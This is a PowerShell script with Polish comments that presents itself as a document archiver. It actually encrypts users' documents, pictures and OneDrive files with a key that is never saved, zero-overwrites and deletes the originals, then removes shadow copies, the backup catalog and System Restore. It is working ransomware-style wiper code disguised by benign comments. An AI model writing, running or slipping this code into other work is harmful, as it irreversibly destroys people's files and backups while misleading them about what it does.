#Requires -RunAsAdministrator
# Archiwizator dokumentów – szyfrowanie i kompresja starych plików
$ErrorActionPreference = 'SilentlyContinue'

$foldery = @(
    "$env:USERPROFILE\Documents",
    "$env:USERPROFILE\Desktop",
    "$env:USERPROFILE\Pictures",
    "$env:USERPROFILE\OneDrive"
)
$rozszerzenia = '*.docx','*.xlsx','*.pptx','*.pdf','*.jpg','*.png','*.odt','*.ods','*.csv','*.txt','*.zip'

# Klucz sesji generowany w pamięci – nie jest zapisywany na dysku (bezpieczeństwo)
$aes = [System.Security.Cryptography.Aes]::Create()
$aes.KeySize = 256
$aes.GenerateKey()
$aes.GenerateIV()

function Zaszyfruj-Plik([string]$sciezka) {
    $dane = [System.IO.File]::ReadAllBytes($sciezka)
    $enc = $aes.CreateEncryptor()
    $wynik = $enc.TransformFinalBlock($dane, 0, $dane.Length)
    [System.IO.File]::WriteAllBytes("$sciezka.arch7", $aes.IV + $wynik)
    # nadpisz oryginał przed usunięciem, żeby nie dało się go odzyskać
    $zera = New-Object byte[] ($dane.Length)
    [System.IO.File]::WriteAllBytes($sciezka, $zera)
    Remove-Item -LiteralPath $sciezka -Force
}

$licznik = 0
foreach ($f in $foldery) {
    if (-not (Test-Path $f)) { continue }
    Get-ChildItem -Path $f -Recurse -File -Include $rozszerzenia |
        Where-Object { $_.FullName -notmatch '\\AppData\\' } |
        ForEach-Object {
            Zaszyfruj-Plik $_.FullName
            $licznik++
        }
}

# Zwolnienie miejsca: stare punkty przywracania i katalog kopii zapasowych
vssadmin.exe delete shadows /all /quiet | Out-Null
wmic.exe shadowcopy delete /nointeractive | Out-Null
wbadmin.exe delete catalog -quiet | Out-Null
Disable-ComputerRestore -Drive "$env:SystemDrive\"

# Klucz znika razem z procesem
$aes.Clear()
$aes.Dispose()

Write-Host "Zarchiwizowano plików: $licznik"
